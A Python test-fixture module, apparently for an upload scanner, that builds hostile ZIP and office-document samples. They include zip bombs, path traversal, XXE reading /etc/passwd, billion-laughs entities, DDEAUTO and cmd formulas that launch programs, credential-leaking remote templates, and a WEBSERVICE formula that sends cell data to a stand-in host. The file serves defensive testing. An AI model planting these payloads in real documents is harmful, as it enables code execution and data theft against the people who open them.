"""Attacks in zipped evidence: the container itself, and what an office document can carry."""

import struct
import zlib

from tests import evidence_sample as e
from tests.hostile.git import BOX

EXTERNAL = "External"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
PROGRAM = b"MZ\x90\0" + b"\0" * 60 + b"PE\0\0"
PICTURE = ("word/media/image1.png", e.png())


def _docx(content: bytes, name: str = "lampiran") -> dict:
    return {f"{BOX}/{name}.docx": content}


def _xlsx(content: bytes) -> dict:
    return {f"{BOX}/lampiran.xlsx": content}


def _spoilt(**told) -> dict:
    """A document one of whose parts is told in another way than it is."""
    return _docx(e.zipped(*e.docx_parts().items(), e.part(*PICTURE, **told)))


# The container


def zip_name_differs() -> dict:
    """One reader sees a picture, another a macro."""
    return _spoilt(local_name=b"word/vbaProject.bin")


def zip_size_differs() -> dict:
    return _spoilt(local_size=1)


def zip_size_lies() -> dict:
    """Both places say ten bytes, and more comes out."""
    return _spoilt(size=10)


def zip_sum_differs() -> dict:
    return _spoilt(crc=0)


def zip_method_differs() -> dict:
    return _spoilt(local_method=0)


def zip_unlisted_part() -> dict:
    """Between two parts lies one that the directory does not name; some readers go from part to part."""
    hidden = e.zipped(("word/vbaProject.bin", b"x"))
    return _spoilt(gap=hidden[: hidden.index(b"PK\x01\x02")])


def zip_before_directory() -> dict:
    return _docx(e.zipped(*e.docx_parts().items(), before_directory=b"rahasia" * 9))


def zip_after_end() -> dict:
    return _docx(e.docx() + b"rahasia" * 9)


def zip_second_directory() -> dict:
    """Two whole files, one behind the other: readers from the front and from the back disagree."""
    return _docx(e.docx() + e.docx({"word/vbaProject.bin": b"x"}))


def zip_cut() -> dict:
    return _docx(e.docx()[:-30])


def zip_overlap() -> dict:
    """Many names for the same bytes: how 42 kB become petabytes."""
    bomb = e.part("word/media/a0.bin", b"\0" * 100_000)
    return _docx(e.zipped(*e.docx_parts().items(), bomb, *(e.part(f"word/media/a{n}.bin", b"\0" * 100_000, start=0) for n in range(1, 9))))


def zip_count_differs() -> dict:
    return _docx(e.zipped(*e.docx_parts().items(), count=2))


def zip_sixty_four() -> dict:
    """The real sizes would stand in a record for files beyond 4 GB, which only some readers look at."""
    long = struct.pack("<HHQQ", 1, 16, 10**12, 10)
    return _spoilt(central_size=0xFFFFFFFF, central_length=0xFFFFFFFF, central_extra=long)


def zip_locked() -> dict:
    return _spoilt(flags=0x801)


def zip_unknown_method() -> dict:
    """Packed with LZMA, which office programs do not read and some scanners do not either."""
    return _spoilt(method=14, packed=b"\x09\x14\x05\0]\0\0\x80\0\0")


def zip_climbs() -> dict:
    return _docx(e.docx({"../../../../tmp/jahat.sh": b"x"}))


def zip_absolute() -> dict:
    return _docx(e.docx({"C:\\Windows\\a.xml": b"<a/>"}))


def zip_twice() -> dict:
    return _docx(e.zipped(*e.docx_parts().items(), ("word/document.xml", e.document())))


def zip_twice_by_case() -> dict:
    return _docx(e.zipped(*e.docx_parts().items(), ("WORD/Document.xml", e.document())))


def zip_link() -> dict:
    return _docx(e.zipped(*e.docx_parts().items(), e.part("word/media/a.png", b"/etc/passwd", mode=0o120777)))


def zip_two_names() -> dict:
    """A field for Unicode names says another name than the one that stands there."""
    name = b"word/vbaProject.bin"
    extra = struct.pack("<HHBL", 0x7075, 5 + len(name), 1, zlib.crc32(b"word/media/image1.png")) + name
    return _spoilt(central_extra=extra)


def zip_folder_with_content() -> dict:
    return _docx(e.docx({"word/media/": b"isi di dalam nama folder"}))


def zip_bomb() -> dict:
    return _docx(e.docx({"word/media/a.bin": b"\0" * 40_000_000}))


def zip_bomb_of_words() -> dict:
    """A table of shared strings that packs a thousandfold."""
    words = b"<si><t>" + b"A" * 30_000_000 + b"</t></si>"
    return _xlsx(e.xlsx({"xl/sharedStrings.xml": b'<sst xmlns="' + e.SHEET.encode() + b'">' + words + b"</sst>"}))


def zip_bomb_in_all() -> dict:
    """No part packs suspiciously well, but there are many."""
    data = b"".join(n.to_bytes(2, "big") * 20 for n in range(25_000))
    engine = zlib.compressobj(6, zlib.DEFLATED, -15)
    packed = engine.compress(data) + engine.flush()
    parts = (e.part(f"word/media/a{n}.bin", data, packed=packed) for n in range(220))
    return _docx(e.zipped(*e.docx_parts().items(), *parts))


def zip_many_parts() -> dict:
    return _docx(e.zipped(*e.docx_parts().items(), *((f"word/media/a{n}.bin", b"") for n in range(4001))))


def zip_in_zip() -> dict:
    return {f"{BOX}/lampiran.zip": e.zipped(("dalam.zip", e.zipped(("a.txt", b"x"))))}


def zip_in_document() -> dict:
    return _docx(e.docx({"word/media/image1.png": e.zipped(("a.txt", b"x"))}))


def program_in_document() -> dict:
    return _docx(e.docx({"word/media/image1.png": PROGRAM}))


def paper_in_document() -> dict:
    return _docx(e.docx({"word/media/image1.bin": e.pdf()}))


def script_in_paper_in_zip() -> dict:
    """What may not be handed in alone may not be handed in wrapped up either."""
    return {f"{BOX}/lampiran.zip": e.zipped(("a.pdf", e.pdf(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>")))}


# What an office document carries


def macro() -> dict:
    return _xlsx(e.xlsx({"xl/vbaProject.bin": b"x"}))


def macro_by_kind() -> dict:
    """The macro lies under an innocent name; only the list of kinds tells."""
    kinds = e.types(("xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"), ("xl/a.dat", "application/x"))
    return _xlsx(e.xlsx({"[Content_Types].xml": kinds, "xl/a.dat": b"x"}))


def macro_by_relation() -> dict:
    return _docx(e.docx({"word/a.dat": b"x"}, links=[("vbaProject", "a.dat", "")]))


def macro_sheet() -> dict:
    """Excel 4.0 macros: a sheet whose cells are commands."""
    return _xlsx(e.xlsx(links=[("xlMacrosheet", "sheets/sheet9.xml", "")]))


def macro_in_open_document() -> dict:
    return {f"{BOX}/lampiran.odt": e.odt({"Basic/Standard/Module1.xml": b"<a/>"})}


def event_in_open_document() -> dict:
    event = '<office:event-listeners><script:event-listener xlink:href="vnd.sun.star.script:a"/></office:event-listeners>'
    return {f"{BOX}/lampiran.odt": e.odt(body=event)}


def macro_in_embedded_workbook() -> dict:
    """The workbook behind a chart."""
    return _docx(e.docx({"word/embeddings/Lembar1.xlsx": e.xlsx({"xl/vbaProject.bin": b"x"})}))


def macro_in_old_workbook() -> dict:
    return {f"{BOX}/lampiran.xls": OLE + "_VBA_PROJECT_CUR".encode("utf-16-le")}


def script_in_drawing() -> dict:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    return _docx(e.docx({"word/media/image1.svg": svg}))


def event_in_drawing() -> dict:
    return _docx(e.docx({"word/media/image1.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'}))


def script_in_emblem() -> dict:
    """The office's own emblem is shown on every page."""
    return {"periods/logo.svg": b'<svg xmlns="http://www.w3.org/2000/svg"><a onclick="x()"/></svg>'}


def other_workbook() -> dict:
    return _xlsx(e.xlsx({"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}))


def remote_template() -> dict:
    """A template with macros, fetched when the document is opened."""
    settings = e.relations(("attachedTemplate", "https://contoh.invalid/a.dotm", EXTERNAL))
    return _docx(e.docx({"word/_rels/settings.xml.rels": settings}))


def remote_template_shared() -> dict:
    """From a shared folder, with the reader's password sent along."""
    settings = e.relations(("attachedTemplate", "\\\\203.0.113.1\\a\\b.dotm", EXTERNAL))
    return _docx(e.docx({"word/_rels/settings.xml.rels": settings}))


def remote_template_spelled() -> dict:
    """The word «External» in character references."""
    link = e.relations(("attachedTemplate", "a", "X")).replace(b'"X"', b'"Exter&#110;al"')
    return _docx(e.docx({"word/_rels/settings.xml.rels": link}))


def remote_without_mode() -> dict:
    """An inner part that lies at an address."""
    return _docx(e.docx(links=[("image", "https://contoh.invalid/a.png", "")]))


def remote_picture() -> dict:
    """Tells a stranger who opens the document, and when."""
    return _docx(e.docx(links=[("image", "https://contoh.invalid/a.png", EXTERNAL)]))


def remote_picture_in_open_document() -> dict:
    return {f"{BOX}/lampiran.odt": e.odt(body='<draw:image xlink:href="https://contoh.invalid/a.png"/>')}


def embedded_object() -> dict:
    return _docx(e.docx({"word/embeddings/oleObject1.bin": OLE}))


def control() -> dict:
    return _docx(e.docx({"word/activeX/activeX1.xml": b"<a/>"}))


def foreign_chunk() -> dict:
    """A web page that Word takes over while opening."""
    return _docx(e.docx({"word/a.htm": b"<html></html>"}, links=[("aFChunk", "a.htm", "")]))


def doctype() -> dict:
    evil = b'<?xml version="1.0"?><!DOCTYPE a SYSTEM "file:///etc/passwd"><a/>'
    return _docx(e.docx({"customXml/item1.xml": evil}))


def entities() -> dict:
    """A billion laughs."""
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    return _xlsx(e.xlsx({"xl/sharedStrings.xml": f'<!DOCTYPE a [<!ENTITY l0 "ha">{laughs}]><a>&l9;</a>'.encode()}))


def entities_in_sixteen_bits() -> dict:
    """Where somebody looks for the word in bytes only."""
    return _docx(e.docx({"customXml/item1.xml": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'.encode("utf-16")}))


def deep_elements() -> dict:
    return _docx(e.docx(body="<w:p>" * 5000 + "</w:p>" * 5000))


def endless_mark() -> dict:
    """One mark of three megabytes, which a parser must keep whole."""
    value = "".join(f"{n * 40503 % 65536:04x}" for n in range(750_000))
    return _docx(e.docx(body=f'<w:p a="{value}"/>'))


def broken_marks() -> dict:
    return _docx(e.docx(body="<w:p>"))


def command_field() -> dict:
    """DDEAUTO, cut into runs as Word itself would."""
    runs = "".join(f"<w:r><w:instrText>{word}</w:instrText></w:r>" for word in ("DD", "EAU", 'TO c:\\\\a.exe "/c x"'))
    return _docx(e.docx(body=f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'))


def command_field_nested() -> dict:
    """The word is put together by a field within the field."""
    begin, end = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'
    inner = f"{begin}<w:instrText> QUOTE </w:instrText>{end}"
    run = f"<w:r>{begin}<w:instrText>DD</w:instrText>{inner.replace(' QUOTE ', 'E')}<w:instrText> c:\\a.exe</w:instrText>{end}</w:r>"
    return _docx(e.docx(body=f"<w:p>{run}</w:p>"))


def command_field_simple() -> dict:
    return _docx(e.docx(body='<w:p><w:fldSimple w:instr="  dde c:\\\\a.exe b"/></w:p>'))


def picture_field() -> dict:
    return _docx(e.docx(body='<w:p><w:fldSimple w:instr="INCLUDEPICTURE &quot;https://contoh.invalid/a.png&quot;"/></w:p>'))


def command_formula() -> dict:
    """A cell that starts a program."""
    return _xlsx(e.xlsx(cells="<c r=\"A1\"><f>cmd|'/c calc'!A0</f></c>"))


def fetching_formula() -> dict:
    """A cell that tells a stranger what stands in another cell; spelled with character references."""
    return _xlsx(e.xlsx(cells='<c r="A1"><f>_xlfn.WEB&#83;ERVICE("https://contoh.invalid/?"&amp;B1)</f></c>'))


def command_in_open_document() -> dict:
    return {
        f"{BOX}/lampiran.odt": e.odt(
            body='<table:table><table:table-cell table:formula="of:=DDE(&quot;a&quot;;&quot;b&quot;;1)"/></table:table>'
        )
    }


def link_to_script() -> dict:
    return _docx(e.docx(links=[("hyperlink", "java\nscript:alert(1)", EXTERNAL)]))


def link_to_share() -> dict:
    return _docx(e.docx(links=[("hyperlink", "\\\\203.0.113.1\\bersama\\a.docx", EXTERNAL)]))


def link_to_handler() -> dict:
    """A scheme of Windows that starts a program."""
    return _docx(e.docx(links=[("hyperlink", "search-ms:query=a", EXTERNAL)]))


def link_in_open_document() -> dict:
    return {f"{BOX}/lampiran.odt": e.odt(body='<text:a xlink:href="file:///etc/passwd">a</text:a>')}


def wide_picture_in_document() -> dict:
    return _docx(e.docx({"word/media/image1.png": e.png(60_000, 60_000)}))


def locked_document() -> dict:
    """Word's own password: the document lies encrypted in an old container under the new name."""
    return {f"{BOX}/lampiran.doc": OLE + "EncryptedPackage".encode("utf-16-le")}


def locked_open_document() -> dict:
    manifest = b'<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><m:encryption-data/></m:manifest>'
    return {f"{BOX}/lampiran.odt": e.odt({"META-INF/manifest.xml": manifest})}
